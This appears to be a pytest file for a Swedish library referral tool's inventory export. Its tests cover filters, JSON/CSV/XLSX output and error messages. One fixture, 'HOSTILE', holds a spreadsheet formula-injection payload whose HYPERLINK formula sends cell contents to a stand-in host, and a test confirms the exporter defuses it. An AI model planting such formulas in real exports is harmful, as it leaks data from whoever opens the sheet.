from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from referral_cli.cli import app
from referral_cli.commands.inventory import list_inventory
from referral_cli.records import RecordFilter
from referral_cli.store.inventory_writer import FIELD_ORDER
from tests.conftest import LIBRARY
from tests.inventory_repo import BARE, BARE_FILE, BASE, FILES, MARCH, MARCH_FILE, SIM_FILE


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


@pytest.fixture
def repo(make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("REFERRAL_ROOT", raising=False)
    return make_repo(FILES)


def listed(repo: Path, **conditions: object) -> list[str]:
    return [e.display for e in list_inventory(repo, RecordFilter(**conditions)).entries]  # type: ignore[arg-type]


def test_entries_are_sorted_by_date(repo: Path) -> None:
    assert listed(repo) == [MARCH_FILE, BASE, SIM_FILE, BARE_FILE]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ([], [MARCH_FILE, BASE, SIM_FILE, BARE_FILE]),
        (["--since", "2026-08-22"], [BASE, SIM_FILE, BARE_FILE]),
        (["--until", "2026-08-22"], [MARCH_FILE, BASE]),
        (["--since", "2026-08-23", "--until", "2026-08-23"], [SIM_FILE]),
        (["--branch", "norrby"], [MARCH_FILE]),
        (["--branch", "norrby", "--branch", "centrum"], [MARCH_FILE, BASE, SIM_FILE]),
        (["--reason", "privacy"], [MARCH_FILE, BASE]),
        (["--reason", "time", "--reason", "legal"], [MARCH_FILE, SIM_FILE]),
        (["--period", "vt-2026"], [MARCH_FILE]),
        (["--period", "ht-2026"], [BASE, SIM_FILE]),
        (["--category", "telefoner"], [SIM_FILE]),
        (["--unmatched"], [MARCH_FILE, BARE_FILE]),
        (["--unmatched", "--reason", "privacy"], [MARCH_FILE]),
        (["--since", "2026-09-01"], [BARE_FILE]),
        (["--since", "2026-10-01"], []),
        # a choice as people type it: a label in Swedish or English, a name, any case
        (["--reason", "Integritet"], [MARCH_FILE, BASE]),
        (["--reason", "för tidskrävande", "--reason", "Legal"], [MARCH_FILE, SIM_FILE]),
        (["--branch", "Norrby områdesbibliotek"], [MARCH_FILE]),
        (["--category", "TELEFONER"], [SIM_FILE]),
    ],
)
def test_filters(runner: CliRunner, repo: Path, args: list[str], expected: list[str]) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "json", *args])
    assert result.exit_code == 0, result.output
    assert [record["file"] for record in json.loads(result.stdout)] == expected


def test_json_carries_every_field(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(
        app, ["inventory", "--root", str(repo), "--format", "json", "--period", "vt-2026"]
    )
    assert json.loads(result.stdout) == [
        {
            "date": "2026-03-05",
            "description": "Skanna pass och bifoga det i en visumansökan på ett annat lands "
            "webbplats.",
            "branch": "norrby",
            "reflection": "Osäker på om jag fick hantera en kopia av passet.",
            "reasons": ["privacy", "legal", "language"],
            "category": None,
            "row": None,
            "referred_to": ["skatteverket"],
            "sent_by": [],
            "outcome": "partly",
            "minutes": 25,
            "read_level": 3,
            "recorded_by": "OS",
            "period": "vt-2026",
            "file": MARCH_FILE,
        }
    ]


def test_csv_carries_every_field(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == [*FIELD_ORDER, "file"]
    assert rows[0] == {
        "date": "2026-03-05",
        "description": "Skanna pass och bifoga det i en visumansökan på ett annat lands webbplats.",
        "branch": "norrby",
        "reflection": "Osäker på om jag fick hantera en kopia av passet.",
        "reasons": "privacy;legal;language",
        "category": "",
        "row": "",
        "referred_to": "skatteverket",
        "sent_by": "",
        "outcome": "partly",
        "minutes": "25",
        "read_level": "3",
        "recorded_by": "OS",
        "period": "vt-2026",
        "file": MARCH_FILE,
    }
    assert [row["file"] for row in rows] == [MARCH_FILE, BASE, SIM_FILE, BARE_FILE]
    assert rows[2]["description"] == "Återställa ett SIM-kort: PUK-koden fanns i kundportalen."


def test_csv_export_can_be_imported_again_without_the_file_column(
    runner: CliRunner, repo: Path, tmp_path: Path
) -> None:
    exported = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "csv"]).stdout
    rows = list(csv.reader(io.StringIO(exported)))
    target = tmp_path / "again.csv"
    with target.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(row[:-1] for row in rows)
    result = runner.invoke(
        app, ["add-question", "--root", str(repo), "--no-input", "--from-file", str(target)]
    )
    assert result.exit_code == 0, result.output
    again = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "json"]).stdout
    records = json.loads(again)
    assert len(records) == 8
    by_file = sorted(records, key=lambda r: (r["date"], r["file"]))
    for first, second in zip(by_file[::2], by_file[1::2], strict=True):
        assert {k: v for k, v in first.items() if k != "file"} == {
            k: v for k, v in second.items() if k != "file"
        }


def test_table_shows_reason_labels_in_the_library_language(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--reason", "legal"])
    assert result.exit_code == 0
    assert "Juridik" in result.stdout
    assert "Integritet /" in result.stdout
    assert "legal" not in result.stdout
    assert result.stdout.rstrip().endswith("1 fråga")


def test_own_reason_labels_are_used(runner: CliRunner, make_repo: Callable[..., Path]) -> None:
    library = LIBRARY + (
        "reasons:\n  - id: language\n    label: Språket\n  - id: privacy\n    label: Integritet\n"
    )
    repo = make_repo({"data/library.yaml": library})
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert "Språket" in result.stdout and "Why it chafed" in result.stdout


def test_nothing_matches(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--since", "2026-10-01"])
    assert result.exit_code == 0
    assert result.stdout == "Inga frågor matchar.\n"


@pytest.mark.usefixtures("english")  # the English wording
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--branch", "norby"],
            "error: --branch: unknown branch 'norby' (did you mean 'norrby'?); "
            "known: centrum, norrby",
        ),
        (
            ["--reason", "privcy"],
            "error: --reason: unknown reason 'privcy' (did you mean 'privacy'?); known: "
            "competence, ethical, language, legal, other, privacy, technical, time",
        ),
        (
            ["--period", "ht-2025"],
            "error: --period: unknown period 'ht-2025' (did you mean 'ht-2026'?); "
            "known: ht-2026, vt-2026",
        ),
        (
            ["--category", "telefon"],
            "error: --category: unknown category 'telefon' (did you mean 'telefoner'?); "
            "known: dokument, telefoner",
        ),
        (
            ["--since", "22/8"],
            "error: --since: '22/8' is not a date written as YYYY-MM-DD (e.g. 2026-08-22)",
        ),
        (
            ["--since", "2026-09-01", "--until", "2026-08-01"],
            "error: --since 2026-09-01 is after --until 2026-08-01; nothing can match (are the "
            "dates swapped?)",
        ),
        (["--lang", "fi"], "error: --lang: unknown language 'fi'; choose sv or en"),
    ],
)
def test_bad_filters_are_usage_errors(
    runner: CliRunner, repo: Path, args: list[str], message: str
) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), *args])
    assert result.exit_code == 2
    assert result.stderr == message + "\n"


def test_unknown_format_is_a_usage_error(runner: CliRunner, repo: Path) -> None:
    assert runner.invoke(app, ["inventory", "--root", str(repo), "--format", "xml"]).exit_code == 2


@pytest.mark.usefixtures("english")  # the English wording
def test_a_broken_entry_stops_the_listing(runner: CliRunner, repo: Path) -> None:
    (repo / "data/inventory/2026/trasig.yaml").write_text("date: 2026-08-01\n", encoding="utf-8")
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "csv"])
    assert result.exit_code == 1
    assert result.stdout == ""
    assert (
        "data/inventory/2026/trasig.yaml:1:1: error: missing required key 'description'"
        in result.stderr
    )


def test_unknown_references_do_not_stop_the_listing(runner: CliRunner, repo: Path) -> None:
    (repo / BARE_FILE).write_text(BARE + "reasons: [egen]\n", encoding="utf-8")
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--reason", "egen"])
    assert result.exit_code == 0, result.output
    assert "egen" in result.stdout  # shown by its id when it has no label


# --- spreadsheets out (issue 11 item 3, issue 15 item 2) ---------------------------

HOSTILE = """\
date: 2026-08-24
description: =HYPERLINK("https://x.example/?q="&A1,"Klicka här")
branch: centrum
reasons: [other]
minutes: 5
recorded_by: "=A1"
"""


def test_xlsx_has_every_field_with_dates_and_numbers(
    runner: CliRunner, repo: Path, tmp_path: Path
) -> None:
    out = tmp_path / "inventering.xlsx"
    result = runner.invoke(
        app, ["inventory", "--root", str(repo), "--format", "xlsx", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{out}\n"
    worksheet = openpyxl.load_workbook(out).active
    assert worksheet is not None
    assert worksheet.title == "Frågeinventering"
    rows = list(worksheet.iter_rows(values_only=True))
    assert list(rows[0]) == [*FIELD_ORDER, "file"]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["date"] == datetime(2026, 3, 5)
    assert (first["minutes"], first["read_level"]) == (25, 3)
    assert first["reasons"] == "privacy;legal;language"
    assert (first["row"], first["sent_by"]) == (None, None)
    assert [row[-1] for row in rows[1:]] == [MARCH_FILE, BASE, SIM_FILE, BARE_FILE]
    assert worksheet.freeze_panes == "B2"


def test_xlsx_sheet_name_follows_the_language(
    runner: CliRunner, repo: Path, tmp_path: Path
) -> None:
    out = tmp_path / "inventory.xlsx"
    args = ["inventory", "--root", str(repo), "--format", "xlsx", "--out", str(out), "--lang", "en"]
    assert runner.invoke(app, args).exit_code == 0
    assert openpyxl.load_workbook(out).sheetnames == ["Question inventory"]


def test_xlsx_to_standard_output_when_it_is_not_a_terminal(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "xlsx"])
    assert result.exit_code == 0
    assert result.stdout_bytes.startswith(b"PK\x03\x04")  # a zip file: the workbook


def test_csv_for_swedish_excel(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "csv", "--excel"])
    assert result.exit_code == 0, result.output
    data = result.stdout_bytes
    assert data.startswith(b"\xef\xbb\xbfdate;description;branch;")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][:3] == [
        "2026-03-05",
        MARCH.splitlines()[1].removeprefix("description: "),
        "norrby",
    ]
    assert data.count(b"\r\n") == 5  # the header and four entries, each ending in CR LF


@pytest.mark.usefixtures("english")
def test_excel_needs_csv(runner: CliRunner, repo: Path) -> None:
    result = runner.invoke(app, ["inventory", "--root", str(repo), "--excel"])
    assert result.exit_code == 2
    assert result.stderr.startswith("error: --excel shapes CSV for Excel and only works with")


def test_no_formula_reaches_a_spreadsheet(runner: CliRunner, repo: Path, tmp_path: Path) -> None:
    (repo / "data/inventory/2026/hostile.yaml").write_text(HOSTILE, encoding="utf-8")
    args = ["inventory", "--root", str(repo), "--since", "2026-08-24", "--until", "2026-08-24"]
    [header, row] = list(
        csv.reader(io.StringIO(runner.invoke(app, [*args, "--format", "csv"]).stdout))
    )
    record = dict(zip(header, row, strict=True))
    assert record["description"] == "'" + HOSTILE.splitlines()[1].removeprefix("description: ")
    assert record["recorded_by"] == "'=A1"
    assert record["minutes"] == "5"
    out = tmp_path / "x.xlsx"
    assert runner.invoke(app, [*args, "--format", "xlsx", "--out", str(out)]).exit_code == 0
    worksheet = openpyxl.load_workbook(out).active
    assert worksheet is not None
    cells = {
        worksheet.cell(1, c).value: worksheet.cell(2, c) for c in range(1, worksheet.max_column + 1)
    }
    assert cells["recorded_by"].value == "=A1"  # as recorded, and a text cell
    assert cells["recorded_by"].data_type == "s" and cells["recorded_by"].quotePrefix
    assert cells["description"].data_type == "s"
